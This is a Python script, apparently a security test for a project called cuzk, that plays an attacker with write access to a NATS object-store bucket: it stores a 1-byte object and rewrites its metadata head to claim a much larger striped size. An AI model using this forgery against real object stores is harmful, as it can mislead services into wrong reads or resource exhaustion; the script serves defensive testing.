"""An attacker with write access to an inputs bucket, written independently of our Rust code
(nats-py): puts a 1-byte object, then rewrites its head (the object store's meta message on
`$O.<bucket>.M.<name>`) to claim TOTAL bytes in 12 stripes, as cuzk's striped layout records
them (common/src/objects/layout.rs), and prints the forged head.

Usage: forge_head.py NATS_URL BUCKET TOTAL NAME...
"""

import asyncio
import base64
import json
import sys

import nats

STRIPES = 12


async def main(url, bucket, total, names):
    nc = await nats.connect(url)
    js = nc.jetstream()
    store = await js.object_store(bucket)
    stripe = total // STRIPES
    for name in names:
        await store.put(name, b"x")
        subject = f"$O.{bucket}.M.{base64.urlsafe_b64encode(name.encode()).decode()}"
        head = json.loads((await js.get_last_msg(f"OBJ_{bucket}", subject)).data)
        # The head stripe claims a whole stripe's bytes; its one real chunk stays as it is.
        head["size"] = stripe
        head["metadata"] = {"cuzk-total-bytes": str(stripe * STRIPES), "cuzk-stripe-bytes": str(stripe)}
        await js.publish(subject, json.dumps(head).encode(), headers={"Nats-Rollup": "sub"})
        print(json.dumps(head), flush=True)
    await nc.close()


if __name__ == "__main__":
    url, bucket, total, *names = sys.argv[1:]
    asyncio.run(main(url, bucket, int(total), names))
